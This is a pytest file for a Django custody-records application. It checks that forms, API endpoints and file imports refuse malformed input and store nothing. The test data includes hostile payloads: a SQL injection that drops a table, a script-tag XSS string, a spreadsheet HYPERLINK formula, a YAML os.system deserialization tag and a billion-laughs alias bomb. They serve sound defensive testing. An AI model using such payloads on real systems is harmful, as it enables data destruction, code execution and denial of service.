"""Bad input at every surface (issue #8): forms, API endpoints, the CSV intake, sensor feeds,
YAML estate files and what-if JSON files, each tried with wrong types, huge input, wrong
encodings, injection strings, dates in the future and impossible dates. Each case asserts a clear
refusal (a status or exit code and a stable error code or form message) and that nothing was
stored; the few inputs that are legitimate text (a name with ``<script>`` in it) are stored as
text and shown escaped.

The table in docs/bad-input.md is written from these results:
``HABEAS_WRITE_BAD_INPUT_DOC=1 .venv/bin/python -m pytest tests/reliability/test_bad_input.py``.
"""

from __future__ import annotations

import datetime as dt
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import transaction
from django.test import Client

from habeas.accounts.services import issue_token
from habeas.audit.models import AuditEvent
from habeas.conditions.models import Reading
from habeas.core import clock
from habeas.custody.forms import UploadForm
from habeas.custody.models import Episode
from habeas.estate.models import Cell, Facility
from habeas.housing.models import Placement
from habeas.people.models import Person
from tests import factories as f
from tests.conftest import Cast
from tests.reliability.conftest import RESULTS, Outcome

pytestmark = pytest.mark.django_db

SQL = "'; DROP TABLE people_person; --"
HTML = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://x.example/"&A1)'
TOMORROW = (clock.now() + dt.timedelta(days=2)).date().isoformat()
NEXT_YEAR = (clock.now() + dt.timedelta(days=400)).isoformat()


def stored() -> dict[str, int]:
    """What bad input must not change: every record it could have created, and the audit log."""
    return {
        "people": Person.objects.count(),
        "episodes": Episode.objects.count(),
        "placements": Placement.objects.count(),
        "readings": Reading.objects.count(),
        "facilities": Facility.objects.count(),
        "cells": Cell.objects.count(),
        "audit": AuditEvent.objects.count(),
    }


@dataclass
class Case:
    surface: str
    kind: str  # wrong type, huge, wrong encoding, injection, future date, impossible date
    label: str
    run: Callable[[Cast, Path], Outcome]
    stores: bool = False  # legitimate text: stored as text (and shown escaped)

    @property
    def id(self) -> str:
        return f"{self.surface}: {self.label}"


def check(case: Case, cast: Cast, tmp_path: Path) -> None:
    _person(cast)  # someone in custody, for the surfaces that act on a person
    _token(cast)  # an API token (issuing it is audited)
    before = stored()
    outcome = case.run(cast, tmp_path)
    after = stored()
    RESULTS.append((case.surface, case.kind, case.label, outcome))
    if case.stores:
        assert outcome.refused is False, outcome
        return
    assert outcome.refused, f"{case.id} was accepted: {outcome}"
    assert outcome.code, f"{case.id}: no error code or message"
    assert after == before, f"{case.id} stored something: {before} -> {after}"


# --- Helpers per kind of surface ---------------------------------------------------------------


def signed_in(cast: Cast) -> Client:
    client = Client()
    client.force_login(cast.governor)
    return client


def page_outcome(r: Any) -> Outcome:
    """What a person reads on the page: the first form error, else the refusal shown."""
    form = r.context.get("form") if r.context is not None else None
    if form is not None and form.errors:
        field, messages = next(iter(form.errors.items()))
        where = "" if field == "__all__" else f" on {field}"
        return Outcome(True, str(r.status_code), f"form error{where}: {messages[0]}")
    text = r.content.decode("utf-8", "replace")
    alert = re.search(r'role="alert"[^>]*>(.*?)</', text, re.S)
    message = re.sub(r"<[^>]+>|\s+", " ", alert.group(1)).strip() if alert else ""
    return Outcome(r.status_code >= 400, str(r.status_code), message or r.get("Location", ""))


def form_post(url: str, data: dict[str, Any] | Callable[[Cast], dict[str, Any]]) -> Callable:
    def run(cast: Cast, _tmp: Path) -> Outcome:
        client = signed_in(cast)
        body = data(cast) if callable(data) else data
        r = client.post(url.format(person=_person(cast)), body)
        return page_outcome(r)

    return run


_PEOPLE: dict[int, int] = {}


def _person(cast: Cast) -> int:
    key = cast.north.pk
    if key not in _PEOPLE or not Person.objects.filter(pk=_PEOPLE[key]).exists():
        _PEOPLE[key] = f.admit_person(cast.north, given="Mario", cell="A-1").person_id
    return _PEOPLE[key]


_TOKENS: dict[int, str] = {}


def _token(cast: Cast) -> str:
    if cast.governor.pk not in _TOKENS or not cast.governor.api_tokens.exists():
        with transaction.atomic():
            _t, raw = issue_token(user=cast.governor, name="t", actor=f.SYSTEM, at=clock.now())
        _TOKENS[cast.governor.pk] = raw
    return _TOKENS[cast.governor.pk]


def api_call(
    method: str, url: str, body: Any = None, *, raw: bytes | None = None, ctype: str = ""
) -> Callable:
    def run(cast: Cast, _tmp: Path) -> Outcome:
        client = Client(headers={"Authorization": f"Bearer {_token(cast)}"})
        target = url.format(person=_person(cast) if "{person}" in url else 0)
        payload = body(cast) if callable(body) else body
        if raw is not None:
            data: Any = raw
        else:
            data = json.dumps(payload)
        r = client.generic(method, target, data, content_type=ctype or "application/json")
        try:
            answer = r.json()
            code = f"{answer.get('code')}: {answer.get('message')}"
        except ValueError:
            code = r.content.decode("utf-8", "replace")[:120]
        return Outcome(400 <= r.status_code < 500, str(r.status_code), code)

    return run


def command(name: str, content: bytes | str, *args: str, suffix: str = ".csv") -> Callable:
    def run(_cast: Cast, tmp: Path) -> Outcome:
        path = tmp / f"input{suffix}"
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        err = StringIO()
        try:
            call_command(name, str(path), *args, stdout=StringIO(), stderr=err)
        except CommandError as exc:
            # The first problem as the command prints it ("  file: line 2: field: why [CODE]"),
            # else its headline; without the temporary file's path.
            lines = [ln.strip() for ln in err.getvalue().splitlines() if ln.strip()]
            detail = next((ln for ln in lines if ln.endswith("]")), lines[0] if lines else "")
            text = f"{str(exc).split(' — ')[0]}: {detail}".replace(str(path) + ": ", "")
            return Outcome(True, f"exit {exc.returncode}", text.replace(str(path), path.name))
        return Outcome(False, "exit 0", "")

    return run


# --- The inputs --------------------------------------------------------------------------------


def admission_form(**overrides: Any) -> dict[str, Any]:
    start = clock.now() - dt.timedelta(days=1)
    body = {
        "given_names": "Mario",
        "family_names": "Rivera",
        "date_of_birth": "1990-01-01",
        "sex": "M",
        "nationality": "SV",
        "document_kind": "national_id",
        "document_number": "01234567-8",
        "document_country": "SV",
        "affiliation_status": "assessed",
        "authority_kind": "provisional_detention",
        "issuing_authority": "Juzgado A",
        "reference": "REF-BAD-1",
        "issued_on": start.date().isoformat(),
        "valid_from": start.strftime("%Y-%m-%dT%H:%M"),
        "valid_until": (start + dt.timedelta(days=300)).strftime("%Y-%m-%dT%H:%M"),
        "cell": "A-2",
    }
    body.update(overrides)
    return body


def admission_api(**person: Any) -> dict[str, Any]:
    start = clock.now() - dt.timedelta(days=1)
    return {
        "person": {
            "given_names": "Mario",
            "family_names": "Rivera",
            "date_of_birth": "1990-01-01",
            "sex": "M",
            "nationality": "SV",
            **person,
        },
        "authority": {
            "kind": "provisional_detention",
            "issuing_authority": "Juzgado A",
            "reference": "REF-API-1",
            "issued_on": start.date().isoformat(),
            "valid_from": start.isoformat(),
            "valid_until": (start + dt.timedelta(days=300)).isoformat(),
        },
        "cell": "A-2",
    }


def intake_row(**overrides: str) -> str:
    """One admission as the bulk intake file writes it (``intake_file.write``), then spoiled."""
    import zoneinfo

    from habeas.custody import intake_file
    from habeas.demo import population

    tz = zoneinfo.ZoneInfo("America/El_Salvador")
    (row,) = population.rows(1, seed=99, now=clock.now(), tz=tz)
    row.update(admitted_at="", document_number="55555555-5", cell="")
    row.update(overrides)
    return intake_file.write([row])


READINGS = "cell,measured_at,temperature_c,humidity_pct,lights,co2_ppm,sensor\n"


def reading(**overrides: str) -> str:
    when = (clock.now() - dt.timedelta(hours=2)).isoformat()
    row = {"cell": "A-1", "measured_at": when, "temperature_c": "31.5", "humidity_pct": "70"}
    row |= {"lights": "on", "co2_ppm": "900", "sensor": "s-1"}
    row.update(overrides)
    return READINGS + ",".join(row.values()) + "\n"


ESTATE = """facility:
  code: east
  name: Centro Este
  time_zone: America/El_Salvador
  jurisdiction: SV
  holds_sex: M
  kind: adult
  space_standard: icrc
  units:
    - code: E
      name: Unit E
      cells:
        - {code: E-1, floor_area_m2: %s, bunks: %s, toilets: 1, operational_capacity: 4}
"""


def what_if(imposed_on: str = "2023-05-02", years: Any = 20) -> str:
    return json.dumps(
        {
            "schema": "habeas.sentencing.what-if/1",
            "sentences": [
                {
                    "id": "S1",
                    "imposed_on": imposed_on,
                    "term": {"years": years},
                    "seriousness": "serious",
                }
            ],
        }
    )


LOGIN = "/accounts/login/"
INTAKE = "/facilities/north/intake/"
MOVE = "/people/{person}/move/"
UPLOAD = "/facilities/north/intake/file/"


def login(data: dict[str, Any]) -> Callable:
    def run(_cast: Cast, _tmp: Path) -> Outcome:
        r = Client().post(LOGIN, data)
        if r.status_code == 200 and r.context and r.context["form"].errors:
            return Outcome(True, "200", "form error: the user name and password did not match")
        return Outcome(r.status_code != 302, str(r.status_code), r.get("Location", ""))

    return run


def upload(content: bytes) -> Callable:
    def run(cast: Cast, _tmp: Path) -> Outcome:
        client = signed_in(cast)
        r = client.post(UPLOAD, {"file": SimpleUploadedFile("intake.csv", content)})
        problems = r.context.get("problems") if r.context is not None else None
        if problems:
            p = problems[0]
            return Outcome(True, str(r.status_code), f"line {p.line}: {p.code}: {p.message}")
        return page_outcome(r)

    return run


def escaped_on_the_record(cast: Cast, _tmp: Path) -> Outcome:
    client = signed_in(cast)
    r = client.post(INTAKE, admission_form(given_names=HTML, document_number="76543210-9"))
    assert r.status_code == 302, r.context["form"].errors if r.context else r
    page = client.get(r["Location"]).content.decode()
    assert HTML not in page and "&lt;script&gt;" in page
    return Outcome(False, "302", "stored as text; the record shows it escaped")


BIG = "x" * 200_000

CASES = [
    # Sign-in form
    Case("form: sign in", "wrong type", "no password", login({"username": "ana"})),
    Case(
        "form: sign in", "injection", f"user name {SQL}", login({"username": SQL, "password": "x"})
    ),
    Case(
        "form: sign in",
        "huge",
        "a 200,000-character password",
        login({"username": "ana", "password": BIG}),
    ),
    # Intake form
    Case(
        "form: intake",
        "impossible date",
        "date of birth 2026-02-30",
        form_post(INTAKE, admission_form(date_of_birth="2026-02-30")),
    ),
    Case(
        "form: intake",
        "future date",
        "date of birth tomorrow",
        form_post(INTAKE, admission_form(date_of_birth=TOMORROW)),
    ),
    Case(
        "form: intake",
        "wrong type",
        "issued on 'yesterday'",
        form_post(INTAKE, admission_form(issued_on="yesterday")),
    ),
    Case(
        "form: intake",
        "huge",
        "a 200,000-character name",
        form_post(INTAKE, admission_form(given_names=BIG)),
    ),
    Case(
        "form: intake",
        "injection",
        f"cell {SQL}",
        form_post(INTAKE, admission_form(cell=SQL)),
    ),
    Case("form: intake", "injection", f"given names {HTML}", escaped_on_the_record, stores=True),
    # Move form
    Case(
        "form: move",
        "injection",
        f"cell {SQL}",
        form_post(MOVE, {"cell": SQL, "reason": "x"}),
    ),
    Case(
        "form: move",
        "wrong type",
        "cell of another facility (S-1)",
        form_post(MOVE, {"cell": "S-1", "reason": "x"}),
    ),
    # Intake file upload page
    Case(
        "form: intake file upload",
        "wrong encoding",
        "Latin-1 bytes",
        upload(intake_row(given_names="José").encode("latin-1")),
    ),
    Case(
        "form: intake file upload",
        "impossible date",
        "date of birth 1990-13-01",
        upload(intake_row(date_of_birth="1990-13-01").encode()),
    ),
    Case(
        "form: intake file upload",
        "huge",
        "a file over the upload limit (50 MB; 2 MB in the test)",
        upload(intake_row().encode() + b"x" * (3 * 1024 * 1024)),
    ),
    # API: admission
    Case(
        "API: POST /facilities/{code}/admissions",
        "wrong type",
        "date of birth as a number",
        api_call(
            "POST", "/api/v1/facilities/north/admissions", admission_api(date_of_birth=19900101)
        ),
    ),
    Case(
        "API: POST /facilities/{code}/admissions",
        "impossible date",
        "date of birth 1990-02-30",
        api_call(
            "POST", "/api/v1/facilities/north/admissions", admission_api(date_of_birth="1990-02-30")
        ),
    ),
    Case(
        "API: POST /facilities/{code}/admissions",
        "future date",
        "date of birth tomorrow",
        api_call(
            "POST", "/api/v1/facilities/north/admissions", admission_api(date_of_birth=TOMORROW)
        ),
    ),
    Case(
        "API: POST /facilities/{code}/admissions",
        "huge",
        "a 3 MB body",
        api_call(
            "POST",
            "/api/v1/facilities/north/admissions",
            admission_api(given_names="x" * 3_000_000),
        ),
    ),
    Case(
        "API: POST /facilities/{code}/admissions",
        "wrong encoding",
        "Latin-1 bytes as JSON",
        api_call(
            "POST",
            "/api/v1/facilities/north/admissions",
            raw=json.dumps(admission_api(given_names="José"), ensure_ascii=False).encode("latin-1"),
        ),
    ),
    Case(
        "API: POST /facilities/{code}/admissions",
        "wrong type",
        "not JSON at all",
        api_call(
            "POST",
            "/api/v1/facilities/north/admissions",
            raw=b"given_names=Mario",
            ctype="text/plain",
        ),
    ),
    Case(
        "API: POST /facilities/{code}/admissions",
        "injection",
        f"facility code {SQL}",
        api_call("POST", "/api/v1/facilities/x'%20OR%20'1'='1/admissions", admission_api()),
    ),
    Case(
        "API: POST /people/{id}/placement",
        "injection",
        f"cell {SQL}",
        api_call("POST", "/api/v1/people/{person}/placement", {"cell": SQL}),
    ),
    Case(
        "API: POST /people/{id}/placement",
        "wrong type",
        "person id 10^30",
        api_call(
            "POST", "/api/v1/people/1000000000000000000000000000000/placement", {"cell": "A-1"}
        ),
    ),
    Case(
        "API: GET /facilities/{code}/roll",
        "impossible date",
        "at=2026-02-30T08:00:00Z",
        api_call("GET", "/api/v1/facilities/north/roll?at=2026-02-30T08:00:00Z"),
    ),
    # CSV intake (habeas intake import)
    Case(
        "CSV intake: habeas intake import",
        "wrong encoding",
        "Latin-1 bytes",
        command(
            "intake_import", intake_row(given_names="José").encode("latin-1"), "--facility", "north"
        ),
    ),
    Case(
        "CSV intake: habeas intake import",
        "wrong encoding",
        "UTF-16 with a byte-order mark",
        command("intake_import", intake_row().encode("utf-16"), "--facility", "north"),
    ),
    Case(
        "CSV intake: habeas intake import",
        "impossible date",
        "date of birth 1990-02-30",
        command("intake_import", intake_row(date_of_birth="1990-02-30"), "--facility", "north"),
    ),
    Case(
        "CSV intake: habeas intake import",
        "future date",
        "admitted on an authority from next year",
        command(
            "intake_import",
            intake_row(authority_valid_from=NEXT_YEAR, authority_valid_until=""),
            "--facility",
            "north",
        ),
    ),
    Case(
        "CSV intake: habeas intake import",
        "wrong type",
        "sex 'X'",
        command("intake_import", intake_row(sex="X"), "--facility", "north"),
    ),
    Case(
        "CSV intake: habeas intake import",
        "huge",
        "one field of 200,000 characters",
        command("intake_import", intake_row(given_names=BIG), "--facility", "north"),
    ),
    Case(
        "CSV intake: habeas intake import",
        "injection",
        f"kind of document {SQL}",
        command(
            "intake_import", intake_row(document_kind=SQL.replace(",", "")), "--facility", "north"
        ),
    ),
    Case(
        "CSV intake: habeas intake import",
        "injection",
        f"spreadsheet formula in a name {FORMULA}",
        command(
            "intake_import",
            intake_row(family_names=FORMULA.replace(",", "")),
            "--facility",
            "north",
        ),
        stores=True,  # a name is text; a formula matters only to a spreadsheet opening an export
    ),
    # Sensor feed (habeas conditions import)
    Case(
        "sensor feed: habeas conditions import",
        "wrong type",
        "temperature 'hot'",
        command("conditions_import", reading(temperature_c="hot"), "--facility", "north"),
    ),
    Case(
        "sensor feed: habeas conditions import",
        "future date",
        "measured next year",
        command("conditions_import", reading(measured_at=NEXT_YEAR), "--facility", "north"),
    ),
    Case(
        "sensor feed: habeas conditions import",
        "impossible date",
        "measured 2026-02-30",
        command(
            "conditions_import",
            reading(measured_at="2026-02-30T10:00:00-06:00"),
            "--facility",
            "north",
        ),
    ),
    Case(
        "sensor feed: habeas conditions import",
        "wrong encoding",
        "Latin-1 bytes",
        command(
            "conditions_import", reading(sensor="sensor-é").encode("latin-1"), "--facility", "north"
        ),
    ),
    Case(
        "sensor feed: habeas conditions import",
        "injection",
        f"cell {SQL}",
        command("conditions_import", reading(cell=SQL.replace(",", "")), "--facility", "north"),
    ),
    Case(
        "sensor feed: habeas conditions import",
        "huge",
        "one field of 200,000 characters",
        command("conditions_import", reading(sensor=BIG), "--facility", "north"),
    ),
    Case(
        "sensor feed: habeas conditions import",
        "wrong type",
        "broken JSON lines",
        command(
            "conditions_import",
            '{"cell": "A-1", "measured_at": \n',
            "--facility",
            "north",
            suffix=".jsonl",
        ),
    ),
    # YAML estate file (habeas estate import)
    Case(
        "YAML estate file: habeas estate import",
        "wrong type",
        "bunks: many",
        command("estate_import", ESTATE % ("20", "many"), suffix=".yaml"),
    ),
    Case(
        "YAML estate file: habeas estate import",
        "injection",
        "a !!python/object tag",
        command(
            "estate_import",
            ESTATE % ("20", "4") + "extra: !!python/object/apply:os.system ['echo pwned']\n",
            suffix=".yaml",
        ),
    ),
    Case(
        "YAML estate file: habeas estate import",
        "wrong type",
        "floor area -5 m²",
        command("estate_import", ESTATE % ("-5", "4"), suffix=".yaml"),
    ),
    Case(
        "YAML estate file: habeas estate import",
        "wrong encoding",
        "Latin-1 bytes",
        command(
            "estate_import",
            (ESTATE % ("20", "4")).replace("Este", "Esté").encode("latin-1"),
            suffix=".yaml",
        ),
    ),
    Case(
        "YAML estate file: habeas estate import",
        "wrong type",
        "a YAML syntax error",
        command("estate_import", "facility: [unclosed\n", suffix=".yaml"),
    ),
    Case(
        "YAML estate file: habeas estate import",
        "huge",
        "a billion-laughs alias bomb",
        command(
            "estate_import",
            "a: &a [x, x, x, x, x, x, x, x, x]\n"
            + "".join(
                f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n"
                for p, n in zip("abcd", "bcde", strict=True)
            )
            + "f: [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n",
            suffix=".yaml",
        ),
    ),
    # What-if JSON file (habeas sentencing calculate)
    Case(
        "what-if JSON: habeas sentencing calculate",
        "impossible date",
        "imposed on 2023-02-30",
        command("sentencing_calculate", what_if(imposed_on="2023-02-30"), suffix=".json"),
    ),
    Case(
        "what-if JSON: habeas sentencing calculate",
        "wrong type",
        "term years 'twenty'",
        command("sentencing_calculate", what_if(years="twenty"), suffix=".json"),
    ),
    Case(
        "what-if JSON: habeas sentencing calculate",
        "wrong type",
        "not JSON",
        command("sentencing_calculate", "{schema: what-if", suffix=".json"),
    ),
    Case(
        "what-if JSON: habeas sentencing calculate",
        "wrong encoding",
        "Latin-1 bytes",
        command(
            "sentencing_calculate", what_if().replace("S1", "Sé").encode("latin-1"), suffix=".json"
        ),
    ),
    Case(
        "what-if JSON: habeas sentencing calculate",
        "huge",
        "JSON nested 100,000 deep",
        command("sentencing_calculate", "[" * 100_000 + "]" * 100_000, suffix=".json"),
    ),
    Case(
        "what-if JSON: habeas sentencing calculate",
        "huge",
        "a term of 10^30 years",
        command("sentencing_calculate", what_if(years=10**30), suffix=".json"),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_refused_clearly_and_nothing_is_stored(
    case: Case, cast: Cast, tmp_path: Path, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings.HABEAS_JOBS_INLINE = True
    monkeypatch.setattr(UploadForm, "MAX_BYTES", 2 * 1024 * 1024)  # "huge" without 50 MB
    check(case, cast, tmp_path)
